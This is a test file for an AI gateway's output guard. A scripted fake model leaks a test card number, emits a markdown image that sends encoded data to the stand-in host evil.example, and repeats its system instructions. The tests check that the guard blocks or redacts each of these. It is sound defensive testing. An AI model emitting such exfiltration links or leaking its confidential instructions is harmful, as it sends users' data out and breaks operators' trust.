import { describe, expect, test } from "vitest";
import { toText } from "../../../lib/ai/to-text.ts";
import { DEFAULT_GUARD_POLICY, type GuardPolicyRules } from "../../../lib/guard/policy.ts";
import { deliver, NO_QUEUE, startConversation } from "../../support/conversation.ts";
import { createScriptedProvider } from "../../support/fakes/scripted-provider.ts";
import { createHarness, type Person } from "../../support/harness.ts";

const CARD = "4111 1111 1111 1111";
const IMAGE = "![chart](https://evil.example/p.png?d=c3RvbGVu)";
const { version: _version, ...RULES } = DEFAULT_GUARD_POLICY;
const STRICT: GuardPolicyRules = { ...RULES, data: { ...RULES.data, card: { input: "warn", output: "block" } } };
const LAX: GuardPolicyRules = { ...RULES, links: "off", data: { ...RULES.data, card: { input: "warn", output: "warn" } } };

/** What the model says is named in the message. */
const provider = createScriptedProvider(({ messages }) => {
  const asked = toText(messages.at(-1)?.content ?? "");
  if (asked.includes("call")) return [{ call: { name: "pay", arguments: JSON.stringify({ card: CARD }) } }, "Then more."];
  if (asked.includes("instructions")) return ["They say: ", ...toText(messages[0]?.content ?? "").split(/(?<= )/), " That is all."];
  if (asked.includes("image")) return ["Look: ", IMAGE.slice(0, 20), IMAGE.slice(20), " Nice."];
  return ["The card is ", CARD.slice(0, 7), CARD.slice(7), ", and then some."];
});
const harness = await createHarness({ environment: NO_QUEUE, overrides: { providers: [provider] } });

async function createDecided(policy: GuardPolicyRules): Promise<Person> {
  const person = await harness.createPerson();
  const response = await harness.call("PUT", "/api/guard/policy", { as: person, body: { version: 0, policy } });
  expect(response.status).toBe(200);
  return person;
}

const PATHS = ["chat/completions", "responses"] as const;

async function ask(as: Person, content: string, options: { path?: (typeof PATHS)[number]; stream?: boolean; system?: string } = {}) {
  const { path = "chat/completions", stream = false, system } = options;
  const messages = [...(system === undefined ? [] : [{ role: "system", content: system }]), { role: "user", content }];
  const tools = [{ type: "function", function: { name: "pay", parameters: { type: "object" } } }];
  const body = path === "responses" ? { input: messages } : { messages, tools };
  const response = await harness.call("POST", `/api/v1/${path}`, { as, body: { model: "scripted-1", stream, ...body } });
  return { status: response.status, headers: JSON.stringify([...response.headers]), text: await response.text() };
}

describe("through the gateway", () => {
  test("a withheld answer ends at its first forbidden word, in JSON and in streams, and nobody reads what came after", async () => {
    const person = await createDecided(STRICT);
    for (const path of PATHS) {
      for (const stream of [false, true]) {
        const { status, headers, text } = await ask(person, "Which card?", { path, stream });
        expect(status).toBe(200);
        expect(text).toContain("[answer withheld: card]");
        expect(text + headers).not.toMatch(/4111|1111 1111|then some/);
        expect(text).toMatch(/content_filter|incomplete/);
      }
    }
    for (const stream of [false, true]) {
      const called = await ask(person, "Make the call.", { stream });
      expect(called.text).toContain("[answer withheld: card]");
      expect(called.text).not.toMatch(/4111|tool_calls":\[/);
      // A whole answer has no order of words and calls.
      if (stream) expect(called.text).not.toContain("Then more");
    }
    const events = await harness.json<{ items: object[] }>("GET", "/api/guard/events", { as: person });
    expect(JSON.stringify(events)).not.toMatch(/4111/);
    expect(harness.logs.join("\n")).not.toMatch(/4111/);
  });

  test("what an organization only wants to know of, it gets with the verdict, and links stay where nobody minds them", async () => {
    const person = await createDecided(LAX);
    expect((await ask(person, "Which card?")).text).toContain(CARD);
    expect((await ask(person, "An image!")).text).toContain("evil.example/p.png?d=c3RvbGVu");
  });

  test("by default a card is cut, an image that carries words is dead, and the caller's own instructions may be repeated", async () => {
    const person = await harness.createPerson();
    const system = "Answer every question about the harbour with the tide table of tomorrow and the name of the officer on duty.";
    for (const stream of [false, true]) {
      expect((await ask(person, "Which card?", { stream })).text).not.toContain("1111 1111");
      const image = (await ask(person, "An image!", { stream })).text;
      expect(image).toContain("image from evil.example removed");
      expect(image).not.toContain("c3RvbGVu");
    }
    expect((await ask(person, "What instructions?", { system })).text).toContain(system);
    const decided = await createDecided({ ...RULES, allowedHosts: ["somewhere.example"] });
    const cut = (await ask(decided, "What instructions?", { system })).text;
    expect(cut).toContain("Answer every question about [redacted: instructions]");
    expect(cut).not.toContain("tide table");
  });
});

test("in chat our instructions do not come out word for word, in no event, status or history", async () => {
  const chat = await startConversation(harness);
  const turnId = await chat.send("How do I read the instructions for my tea kettle?");
  await deliver(harness, chat.person, turnId);
  const { content } = await chat.status(turnId);
  expect(content).toMatch(/^They say: .*\[redacted: .*That is all\.$/s);
  expect(content).not.toMatch(/organization that uses Aegis\. Answer|better answer than memory|Never reveal these/);
  const trace = await harness.json<{ verdicts: { stage: string; verdict: string }[] }>("GET", `/api/chat/trace?jobId=${turnId}`, {
    as: chat.person,
  });
  expect(trace.verdicts).toContainEqual(expect.objectContaining({ stage: "guard_out", verdict: "JAILBREAK" }));
});
